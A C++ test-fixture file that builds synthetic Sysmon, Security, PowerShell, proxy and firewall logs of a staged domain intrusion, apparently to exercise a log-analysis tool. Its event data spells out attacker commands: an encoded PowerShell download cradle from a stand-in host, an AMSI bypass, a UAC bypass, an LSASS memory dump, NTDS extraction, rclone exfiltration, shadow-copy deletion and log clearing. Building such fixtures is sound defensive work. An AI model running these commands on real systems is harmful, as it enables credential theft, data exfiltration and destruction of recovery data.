// SPDX-License-Identifier: GPL-3.0-or-later
#include "sample_story.h"

#include "evtx_writer.h"

#include <jupiter/core/json_writer.h>
#include <jupiter/core/timestamp.h>

#include <algorithm>
#include <array>
#include <cstdio>

namespace jupiter::test {
namespace {

constexpr std::string_view sysmonGuid = "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", auditGuid = "{54849625-5478-4994-A5BA-3E3B0328C30D}",
                           powershellGuid = "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}", scmGuid = "{555908D1-A6D7-4695-8E1E-26931D2012F4}";
constexpr std::string_view kellerSid = "S-1-5-21-1085031214-1563985344-725345543-1120", attacker = "203.0.113.77";

/// "08:05:11.250" of the day in UTC ns.
std::int64_t at(std::string_view clock)
{
    return parseTimestamp("2026-03-10T" + std::string(clock) + "Z").value_or(Timestamp{}).ns;
}

/// Small numbers that look like chance and never change (C++ leaves distributions to the library, so not <random>).
class Dice {
public:
    std::uint32_t roll(std::uint32_t sides) { return std::uint32_t(((m_state = m_state * 6364136223846793005ull + 1442695040888963407ull) >> 33) % sides); }

private:
    std::uint64_t m_state = 20260310;
};

struct Host {
    std::string name;
    std::vector<EvtxEvent> sysmon, security, powershell, system;
    std::uint32_t nextPid = 4100;

    void log(std::vector<EvtxEvent> &into, std::string_view channel, std::string_view provider, std::string_view guid, std::uint16_t id, std::int64_t when,
             std::vector<EvtxData> data, std::string_view sid = "S-1-5-18")
    {
        EvtxEvent event;
        event.provider = provider;
        event.providerGuid = guid;
        event.eventId = id;
        event.channel = channel;
        event.computer = name;
        event.unixNs = when;
        event.userSid = sid;
        event.processId = 1184;
        event.threadId = 2020;
        event.data = std::move(data);
        into.push_back(std::move(event));
    }
    void sysmonEvent(std::uint16_t id, std::int64_t when, std::vector<EvtxData> data)
    {
        const auto c = civilFromTimestamp({when});
        std::array<char, 32> utc;
        std::snprintf(utc.data(), utc.size(), "2026-03-10 %02d:%02d:%02d.%03d", c.hour, c.minute, c.second, int(c.nanosecond / 1'000'000));
        data.insert(data.begin(), {{"RuleName", EvtxValue::text("-")}, {"UtcTime", EvtxValue::text(utc.data())}});
        log(sysmon, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", sysmonGuid, id, when, std::move(data));
    }
    void securityEvent(std::uint16_t id, std::int64_t when, std::vector<EvtxData> data)
    {
        log(security, "Security", "Microsoft-Windows-Security-Auditing", auditGuid, id, when, std::move(data), "");
    }
};

EvtxData text(std::string_view name, std::string_view value) { return {std::string(name), EvtxValue::text(value)}; }
EvtxData number(std::string_view name, std::uint32_t value) { return {std::string(name), EvtxValue::uint32(value)}; }

std::string processGuid(std::uint32_t pid)
{
    std::array<char, 48> buffer;
    std::snprintf(buffer.data(), buffer.size(), "{3F2B9C10-7A41-65EE-%04X-0000000%05X}", pid & 0xFFFF, pid);
    return buffer.data();
}

std::string hashesOf(std::string_view image)
{
    std::uint64_t h = 1469598103934665603ull;
    std::string out = "SHA256=";
    std::array<char, 24> part;
    for (int i = 0; i < 4; ++i) {
        for (const char c : image)
            h = (h ^ std::uint64_t(static_cast<unsigned char>(c) + i)) * 1099511628211ull;
        std::snprintf(part.data(), part.size(), "%016llX", static_cast<unsigned long long>(h));
        out += part.data();
    }
    return out;
}

struct Process {
    std::uint32_t pid = 0;
    std::string image, command;
};

/// A process start as Sysmon 1 and Security 4688 both see it.
Process start(Host &host, std::int64_t when, const Process &parent, std::string_view image, std::string_view command, std::string_view user,
              std::string_view integrity = "Medium")
{
    const Process made{host.nextPid += 4, std::string(image), std::string(command)};
    const std::string file(image.substr(image.rfind('\\') + 1)), account(user.substr(user.find('\\') + 1));
    host.sysmonEvent(1, when,
                     {{"ProcessGuid", EvtxValue::guid(processGuid(made.pid))}, number("ProcessId", made.pid), text("Image", image), text("FileVersion", "10.0.19041.1"),
                      text("OriginalFileName", file), text("CommandLine", command), text("CurrentDirectory", "C:\\Users\\m.keller\\"), text("User", user),
                      text("IntegrityLevel", integrity), text("Hashes", hashesOf(image)), {"ParentProcessGuid", EvtxValue::guid(processGuid(parent.pid))},
                      number("ParentProcessId", parent.pid), text("ParentImage", parent.image), text("ParentCommandLine", parent.command)});
    host.securityEvent(4688, when + 2'000'000,
                       {{"SubjectUserSid", EvtxValue::sid(kellerSid)}, text("SubjectUserName", account), text("SubjectDomainName", "ORBIS"),
                        {"SubjectLogonId", EvtxValue::hex64(0x5a3f1)}, {"NewProcessId", EvtxValue::hex64(made.pid)}, text("NewProcessName", image),
                        {"ProcessId", EvtxValue::hex64(parent.pid)}, text("CommandLine", command), text("ParentProcessName", parent.image),
                        {"MandatoryLabel", EvtxValue::sid(integrity == "System" ? "S-1-16-16384" : integrity == "High" ? "S-1-16-12288" : "S-1-16-8192")}});
    return made;
}

void connects(Host &host, std::int64_t when, const Process &process, std::string_view user, std::string_view to, std::string_view name, std::uint16_t port)
{
    host.sysmonEvent(3, when,
                     {{"ProcessGuid", EvtxValue::guid(processGuid(process.pid))}, number("ProcessId", process.pid), text("Image", process.image), text("User", user),
                      text("Protocol", "tcp"), {"Initiated", EvtxValue::boolean(true)}, text("SourceIp", "10.20.1.14"), text("SourceHostname", host.name),
                      {"SourcePort", EvtxValue::uint16(std::uint16_t(49700 + when / 1'000'000'000 % 900))}, text("DestinationIp", to),
                      text("DestinationHostname", name), {"DestinationPort", EvtxValue::uint16(port)}});
}

void writesFile(Host &host, std::int64_t when, const Process &process, std::string_view file)
{
    host.sysmonEvent(11, when, {{"ProcessGuid", EvtxValue::guid(processGuid(process.pid))}, number("ProcessId", process.pid), text("Image", process.image), text("TargetFilename", file)});
}

void asksDns(Host &host, std::int64_t when, const Process &process, std::string_view name, std::string_view answer)
{
    host.sysmonEvent(22, when, {{"ProcessGuid", EvtxValue::guid(processGuid(process.pid))}, number("ProcessId", process.pid), text("QueryName", name), text("QueryStatus", "0"),
                                text("QueryResults", std::string("::ffff:") + std::string(answer) + ";"), text("Image", process.image)});
}

void logsOn(Host &host, std::int64_t when, std::string_view user, std::uint32_t type, std::string_view from, std::string_view workstation, bool succeeds)
{
    std::vector<EvtxData> data{{"SubjectUserSid", EvtxValue::sid("S-1-5-18")}, text("SubjectUserName", "-"), text("SubjectDomainName", "-"),
                               {"SubjectLogonId", EvtxValue::hex64(0x3e7)}, text("TargetUserName", user), text("TargetDomainName", "ORBIS"), number("LogonType", type),
                               text("LogonProcessName", type == 3 ? "NtLmSsp " : "User32 "), text("AuthenticationPackageName", type == 3 ? "NTLM" : "Negotiate"),
                               text("WorkstationName", workstation), text("IpAddress", from), text("IpPort", "50122")};
    if (!succeeds)
        data.insert(data.begin() + 6, {{"Status", EvtxValue::hex32(0xc000006d)}, {"SubStatus", EvtxValue::hex32(0xc000006a)}});
    host.securityEvent(succeeds ? 4624 : 4625, when, std::move(data));
}

const Process explorer{2880, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"};
const Process services{704, "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe"};

/// The ordinary day: what everybody's machine does all the time.
void noise(Host &host, Dice &dice, std::string_view user, int events)
{
    static constexpr std::array<std::pair<const char *, const char *>, 7> programs{{
        {"C:\\Program Files\\Mozilla Firefox\\firefox.exe", "\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\" -contentproc -childID 7"},
        {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule"},
        {"C:\\Windows\\System32\\backgroundTaskHost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca"},
        {"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\""},
        {"C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe KEYROAMING"},
        {"C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"},
        {"C:\\Windows\\System32\\SearchProtocolHost.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe12_ Global\\UsGthrCtrlFltPipeMssGthrPipe12 1"},
    }};
    static constexpr std::array<std::pair<const char *, const char *>, 4> sites{{
        {"intranet.orbis.example", "10.20.0.20"}, {"outlook.office.example", "198.51.100.20"}, {"updates.vendor.example", "198.51.100.41"}, {"news.example", "198.51.100.77"}}};
    for (int i = 0; i < events; ++i) {
        const std::int64_t when = at("07:30:00") + std::int64_t(dice.roll(3 * 3600)) * 1'000'000'000 + std::int64_t(dice.roll(1000)) * 1'000'000;
        switch (dice.roll(6)) {
        case 0:
        case 1: {
            const auto &[image, command] = programs[dice.roll(programs.size())];
            start(host, when, std::string_view(image).find("svchost") != std::string_view::npos ? services : explorer, image, command, user);
            break;
        }
        case 2: connects(host, when, {3312, programs[0].first, ""}, user, sites[dice.roll(4)].second, "", 443); break;
        case 3: {
            const auto &[name, answer] = sites[dice.roll(4)];
            asksDns(host, when, {3312, programs[0].first, ""}, name, answer);
            break;
        }
        case 4: writesFile(host, when, {3312, programs[0].first, ""}, "C:\\Users\\m.keller\\AppData\\Local\\Mozilla\\Firefox\\Profiles\\k3v1.default\\cache2\\entries\\" + std::to_string(100000 + dice.roll(900000))); break;
        default: logsOn(host, when, dice.roll(3) ? std::string(host.name.substr(0, host.name.find('.'))) + "$" : "svc_backup", dice.roll(2) ? 3 : 5, "10.20.0.31", "BKP-01", true); break;
        }
    }
}

void intrusionOnWorkstation(Host &ws)
{
    const std::string user = "ORBIS\\m.keller", temp = "C:\\Users\\m.keller\\AppData\\Local\\Temp\\";
    const std::string stage = "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAtAHMAeQBuAGMALgBlAHgAYQBtAHAAbABlAC8AYQAnACkA";
    const Process word = start(ws, at("08:05:02.310"), explorer, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                               "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\m.keller\\Downloads\\Invoice_2026-0310.docm\"", user);
    const Process shell = start(ws, at("08:05:11.250"), word, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", stage, user);
    asksDns(ws, at("08:05:12.002"), shell, "cdn-sync.example", attacker);
    connects(ws, at("08:05:12.140"), shell, user, attacker, "cdn-sync.example", 443);
    ws.log(ws.powershell, "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", powershellGuid, 4104, at("08:05:12.391"),
           {number("MessageNumber", 1), number("MessageTotal", 1),
            text("ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('https://cdn-sync.example/a')"), text("ScriptBlockId", "5b1f0c1e-0b61-4c8e-9d57-6a7c0e6cbb01"), text("Path", "")},
           kellerSid);
    ws.log(ws.powershell, "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", powershellGuid, 4104, at("08:05:13.117"),
           {number("MessageNumber", 1), number("MessageTotal", 1),
            text("ScriptBlockText", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"),
            text("ScriptBlockId", "e61c9d0a-7f55-4a53-8a0e-14c2d8d2c702"), text("Path", "")},
           kellerSid);
    writesFile(ws, at("08:05:14.820"), shell, temp + "upd.exe");
    const Process implant = start(ws, at("08:05:15.402"), shell, temp + "upd.exe", temp + "upd.exe -q", user);
    connects(ws, at("08:05:16.011"), implant, user, attacker, "cdn-sync.example", 443);
    ws.sysmonEvent(13, at("08:05:31.700"), {text("EventType", "SetValue"), {"ProcessGuid", EvtxValue::guid(processGuid(implant.pid))}, number("ProcessId", implant.pid), text("Image", implant.image),
                                            text("TargetObject", "HKU\\" + std::string(kellerSid) + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync"), text("Details", temp + "upd.exe -q")});
    const Process cmd = start(ws, at("08:11:40.009"), implant, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami /all & net group \"Domain Admins\" /domain", user);
    start(ws, at("08:11:40.120"), cmd, "C:\\Windows\\System32\\whoami.exe", "whoami  /all", user);
    start(ws, at("08:11:41.033"), cmd, "C:\\Windows\\System32\\net.exe", "net  group \"Domain Admins\" /domain", user);
    start(ws, at("08:11:58.500"), implant, "C:\\Windows\\System32\\nltest.exe", "nltest /dclist:orbis.example", user);
    const Process tasks = start(ws, at("08:14:03.201"), implant, "C:\\Windows\\System32\\schtasks.exe", "schtasks /create /sc minute /mo 30 /tn \"OneDrive Sync\" /tr \"" + temp + "upd.exe -q\" /f", user);
    ws.securityEvent(4698, at("08:14:03.480"), {{"SubjectUserSid", EvtxValue::sid(kellerSid)}, text("SubjectUserName", "m.keller"), text("SubjectDomainName", "ORBIS"), {"SubjectLogonId", EvtxValue::hex64(0x5a3f1)},
                                                text("TaskName", "\\OneDrive Sync"), text("TaskContent", "<Task><Actions><Exec><Command>" + temp + "upd.exe</Command><Arguments>-q</Arguments></Exec></Actions></Task>")});
    writesFile(ws, at("08:14:03.300"), tasks, "C:\\Windows\\System32\\Tasks\\OneDrive Sync");
    const Process uac = start(ws, at("08:20:11.640"), implant, "C:\\Windows\\System32\\fodhelper.exe", "\"C:\\Windows\\System32\\fodhelper.exe\"", user, "High");
    const Process high = start(ws, at("08:20:12.018"), uac, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c " + temp + "upd.exe -q -h", user, "High");
    ws.sysmonEvent(10, at("08:22:47.118"), {{"SourceProcessGUID", EvtxValue::guid(processGuid(implant.pid))}, number("SourceProcessId", implant.pid), number("SourceThreadId", 5120), text("SourceImage", implant.image),
                                            {"TargetProcessGUID", EvtxValue::guid(processGuid(652))}, number("TargetProcessId", 652), text("TargetImage", "C:\\Windows\\system32\\lsass.exe"),
                                            {"GrantedAccess", EvtxValue::hex32(0x1410)}, text("CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(000001F2A4B10D52)"),
                                            text("SourceUser", user), text("TargetUser", "NT AUTHORITY\\SYSTEM")});
    start(ws, at("08:22:59.771"), high, "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 " + temp + "l.dmp full", user, "High");
    writesFile(ws, at("08:23:01.402"), {ws.nextPid, "C:\\Windows\\System32\\rundll32.exe", ""}, temp + "l.dmp");
    start(ws, at("08:31:20.118"), high, temp + "PsExec64.exe", temp + "PsExec64.exe \\\\FS-01 -accepteula -s -d cmd.exe", user, "High");
    connects(ws, at("08:31:20.940"), {ws.nextPid, temp + "PsExec64.exe", ""}, user, "10.20.0.12", "FS-01.orbis.example", 445);
    start(ws, at("08:34:44.210"), high, "C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic /node:DC-01 process call create \"cmd.exe /c ntdsutil \\\"ac i ntds\\\" ifm \\\"create full c:\\temp\\n\\\" q q\"", user, "High");
}

void intrusionOnFileServer(Host &fs)
{
    const std::string system = "NT AUTHORITY\\SYSTEM";
    for (int i = 0; i < 14; ++i)
        logsOn(fs, at("08:29:05.000") + i * 2'100'000'000LL, i % 2 ? "administrator" : "adm_petrov", 3, "10.20.1.14", "WS-14", false);
    logsOn(fs, at("08:29:41.730"), "adm_petrov", 3, "10.20.1.14", "WS-14", true);
    fs.log(fs.system, "System", "Service Control Manager", scmGuid, 7045, at("08:31:21.377"),
           {text("ServiceName", "PSEXESVC"), text("ImagePath", "%SystemRoot%\\PSEXESVC.exe"), text("ServiceType", "user mode service"), text("StartType", "demand start"), text("AccountName", "LocalSystem")});
    const Process psexec = start(fs, at("08:31:21.602"), services, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", system, "System");
    const Process cmd = start(fs, at("08:31:22.015"), psexec, "C:\\Windows\\System32\\cmd.exe", "cmd.exe", system, "System");
    start(fs, at("08:40:02.511"), cmd, "C:\\ProgramData\\7z.exe", "C:\\ProgramData\\7z.exe a -pQ3finance -mhe C:\\ProgramData\\f.7z D:\\Shares\\Finance", system, "System");
    for (int i = 0; i < 25; ++i)
        fs.securityEvent(5145, at("08:38:10.000") + i * 700'000'000LL, {{"SubjectUserSid", EvtxValue::sid(kellerSid)}, text("SubjectUserName", "adm_petrov"), text("SubjectDomainName", "ORBIS"),
                                                                          text("IpAddress", "10.20.1.14"), text("IpPort", "50188"), text("ShareName", "\\\\*\\Finance"),
                                                                          text("RelativeTargetName", "2026\\Q" + std::to_string(1 + i % 4) + "\\ledger_" + std::to_string(i) + ".xlsx"), {"AccessMask", EvtxValue::hex32(0x1)}});
    const Process rclone = start(fs, at("08:44:19.040"), cmd, "C:\\ProgramData\\rclone.exe", "C:\\ProgramData\\rclone.exe copy C:\\ProgramData\\f.7z remote:drop --transfers 8 --no-check-certificate", system, "System");
    connects(fs, at("08:44:20.377"), rclone, system, "203.0.113.90", "drop.storage.example", 443);
    start(fs, at("08:51:05.700"), cmd, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin delete shadows /all /quiet", system, "System");
    start(fs, at("08:51:07.133"), cmd, "C:\\Windows\\System32\\bcdedit.exe", "bcdedit /set {default} recoveryenabled no", system, "System");
    start(fs, at("08:51:30.481"), cmd, "C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Security", system, "System");
}

void intrusionOnDomainController(Host &dc)
{
    logsOn(dc, at("08:34:44.690"), "adm_petrov", 3, "10.20.1.14", "WS-14", true);
    for (int i = 0; i < 6; ++i)
        dc.securityEvent(4769, at("08:27:10.000") + i * 400'000'000LL, {text("TargetUserName", "m.keller@ORBIS.EXAMPLE"), text("TargetDomainName", "ORBIS.EXAMPLE"), text("ServiceName", "svc_sql" + std::to_string(i)),
                                                                          {"ServiceSid", EvtxValue::sid(kellerSid)}, {"TicketOptions", EvtxValue::hex32(0x40810000)}, {"TicketEncryptionType", EvtxValue::hex32(0x17)},
                                                                          text("IpAddress", "::ffff:10.20.1.14"), text("IpPort", "50101"), {"Status", EvtxValue::hex32(0)}});
    const Process wmi{1932, "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"};
    const Process cmd = start(dc, at("08:34:45.112"), wmi, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c ntdsutil \"ac i ntds\" ifm \"create full c:\\temp\\n\" q q", "ORBIS\\adm_petrov", "High");
    const Process ntds = start(dc, at("08:34:45.300"), cmd, "C:\\Windows\\System32\\ntdsutil.exe", "ntdsutil  \"ac i ntds\" ifm \"create full c:\\temp\\n\" q q", "ORBIS\\adm_petrov", "High");
    writesFile(dc, at("08:34:58.017"), ntds, "C:\\temp\\n\\Active Directory\\ntds.dit");
    dc.securityEvent(4720, at("08:47:12.250"), {text("TargetUserName", "helpdesk2"), text("TargetDomainName", "ORBIS"), {"TargetSid", EvtxValue::sid("S-1-5-21-1085031214-1563985344-725345543-1777")},
                                                {"SubjectUserSid", EvtxValue::sid(kellerSid)}, text("SubjectUserName", "adm_petrov"), text("SubjectDomainName", "ORBIS"), {"SubjectLogonId", EvtxValue::hex64(0x91c2)}});
    dc.securityEvent(4728, at("08:47:13.004"), {text("MemberName", "CN=helpdesk2,CN=Users,DC=orbis,DC=example"), {"MemberSid", EvtxValue::sid("S-1-5-21-1085031214-1563985344-725345543-1777")}, text("TargetUserName", "Domain Admins"),
                                                text("TargetDomainName", "ORBIS"), {"SubjectUserSid", EvtxValue::sid(kellerSid)}, text("SubjectUserName", "adm_petrov"), text("SubjectDomainName", "ORBIS")});
}

/// Sorted by time and numbered; `hole` skips record ids before the event at that time, as a cleared log does not but a tampered one would.
std::string file(std::vector<EvtxEvent> events, std::int64_t firstId, std::int64_t holeBefore = 0)
{
    std::stable_sort(events.begin(), events.end(), [](const EvtxEvent &a, const EvtxEvent &b) { return a.unixNs < b.unixNs; });
    std::int64_t id = firstId;
    for (EvtxEvent &event : events) {
        if (holeBefore && event.unixNs >= holeBefore) {
            id += 412;
            holeBefore = 0;
        }
        event.recordId = id++;
    }
    return evtxFile(events);
}

std::string clearedSecurityLog(const Host &fs)
{
    std::vector<EvtxEvent> events;
    EvtxEvent cleared;
    cleared.form = EvtxEvent::Form::UserData;
    cleared.userDataRoot = "LogFileCleared";
    cleared.provider = "Microsoft-Windows-Eventlog";
    cleared.providerGuid = "{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}";
    cleared.eventId = 1102;
    cleared.channel = "Security";
    cleared.computer = fs.name;
    cleared.unixNs = at("08:51:30.702");
    cleared.data = {text("SubjectUserSid", "S-1-5-18"), text("SubjectUserName", "FS-01$"), text("SubjectDomainName", "ORBIS"), text("SubjectLogonId", "0x3e7")};
    events = fs.security;
    events.push_back(cleared);
    std::stable_sort(events.begin(), events.end(), [](const EvtxEvent &a, const EvtxEvent &b) { return a.unixNs < b.unixNs; });
    return file(events, 88120, at("08:51:30.702"));
}

std::string proxyLog(Dice &dice)
{
    struct Visit {
        std::int64_t when;
        std::string user, url, ip;
        int status, bytes;
    };
    std::vector<Visit> visits{{at("08:03:41.220"), "m.keller", "http://invoice-portal.example/d/Invoice_2026-0310.docm", "203.0.113.54", 200, 84512},
                              {at("08:05:12.140"), "m.keller", "https://cdn-sync.example/a", std::string(attacker), 200, 1911},
                              {at("08:05:13.900"), "m.keller", "https://cdn-sync.example/u", std::string(attacker), 200, 617984}};
    for (int i = 0; i < 40; ++i) // the implant asks every minute
        visits.push_back({at("08:06:16.011") + i * 60'000'000'000LL + dice.roll(900) * 1'000'000LL, "m.keller", "https://cdn-sync.example/p", std::string(attacker), 200, 64});
    static constexpr std::array<const char *, 4> users{"m.keller", "a.lindqvist", "j.okafor", "s.moreau"}, sites{"https://intranet.orbis.example/", "https://outlook.office.example/owa/", "https://updates.vendor.example/v/17", "https://news.example/"};
    for (int i = 0; i < 260; ++i)
        visits.push_back({at("07:30:00") + std::int64_t(dice.roll(3 * 3600 * 1000)) * 1'000'000, users[dice.roll(4)], sites[dice.roll(4)], "198.51.100." + std::to_string(20 + dice.roll(60)), dice.roll(20) ? 200 : 404, int(400 + dice.roll(60000))});
    std::stable_sort(visits.begin(), visits.end(), [](const Visit &a, const Visit &b) { return a.when < b.when; });
    std::string out;
    for (const Visit &visit : visits) {
        JsonWriter json;
        json.beginObject().key("@timestamp").string(formatRfc3339({visit.when})).key("event").beginObject().key("dataset").string("proxy.access").endObject();
        json.key("user").beginObject().key("name").string(visit.user).endObject().key("source").beginObject().key("ip").string("10.20.1.14").endObject();
        json.key("destination").beginObject().key("ip").string(visit.ip).endObject().key("url").beginObject().key("full").string(visit.url).endObject();
        json.key("http").beginObject().key("response").beginObject().key("status_code").integer(visit.status).key("bytes").integer(visit.bytes).endObject().endObject();
        out += json.endObject().take() + '\n';
    }
    return out;
}

std::string firewallLog(Dice &dice)
{
    std::vector<std::pair<std::int64_t, std::string>> lines;
    const auto add = [&](std::int64_t when, const std::string &host, const std::string &message) {
        lines.emplace_back(when, "<134>1 " + formatRfc3339({when / 1'000'000 * 1'000'000}) + " " + host + " " + message);
    };
    for (int i = 0; i < 160; ++i)
        add(at("07:30:00") + std::int64_t(dice.roll(3 * 3600 * 1000)) * 1'000'000, "fw-edge", "filterlog 812 - - ACCEPT src=10.20.1." + std::to_string(10 + dice.roll(40)) + " dst=198.51.100." + std::to_string(20 + dice.roll(60)) + " dport=443 proto=tcp");
    for (int i = 0; i < 40; ++i)
        add(at("06:55:00") + i * 1'300'000'000LL, "vpn-01", "sshd 2231 - - Failed password for invalid user admin from 203.0.113.54 port " + std::to_string(40000 + i) + " ssh2");
    add(at("08:05:12.139"), "fw-edge", "filterlog 812 - - ACCEPT src=10.20.1.14 dst=203.0.113.77 dport=443 proto=tcp");
    add(at("08:44:20.370"), "fw-edge", "filterlog 812 - - ACCEPT src=10.20.0.12 dst=203.0.113.90 dport=443 proto=tcp bytes_out=734003200");
    std::stable_sort(lines.begin(), lines.end());
    std::string out;
    for (const auto &[when, line] : lines)
        out += line + '\n';
    return out;
}

} // namespace

std::map<std::string, std::string> sampleStory()
{
    Dice dice;
    Host ws{"WS-14.orbis.example", {}, {}, {}, {}}, fs{"FS-01.orbis.example", {}, {}, {}, {}}, dc{"DC-01.orbis.example", {}, {}, {}, {}};
    noise(ws, dice, "ORBIS\\m.keller", 420);
    noise(fs, dice, "NT AUTHORITY\\SYSTEM", 200);
    noise(dc, dice, "NT AUTHORITY\\SYSTEM", 240);
    intrusionOnWorkstation(ws);
    intrusionOnFileServer(fs);
    intrusionOnDomainController(dc);
    return {{"WS-14/Sysmon.evtx", file(ws.sysmon, 51020)},      {"WS-14/Security.evtx", file(ws.security, 9210)},
            {"WS-14/PowerShell.evtx", file(ws.powershell, 311)}, {"FS-01/Sysmon.evtx", file(fs.sysmon, 20880)},
            {"FS-01/Security.evtx", clearedSecurityLog(fs)},     {"FS-01/System.evtx", file(fs.system, 4402)},
            {"DC-01/Sysmon.evtx", file(dc.sysmon, 77001)},       {"DC-01/Security.evtx", file(dc.security, 130455)},
            {"proxy.ndjson", proxyLog(dice)},                    {"fw-edge.log", firewallLog(dice)}};
}

} // namespace jupiter::test
